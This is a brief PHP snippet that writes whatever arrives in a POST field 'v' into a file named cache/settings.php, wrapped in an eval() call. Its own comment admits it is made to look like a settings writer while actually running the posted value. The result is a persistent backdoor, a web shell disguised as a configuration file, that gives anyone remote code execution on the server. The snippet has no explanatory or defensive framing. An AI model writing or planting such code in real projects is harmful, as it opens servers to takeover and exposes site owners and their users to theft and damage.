<?php
// written like a setting, but the text written runs the posted value
if (isset($_POST['v'])) {
    $f = fopen("cache/settings.php", "w");
    fwrite($f, "<?php eval('" . $_POST['v'] . "');");
    fclose($f);
}
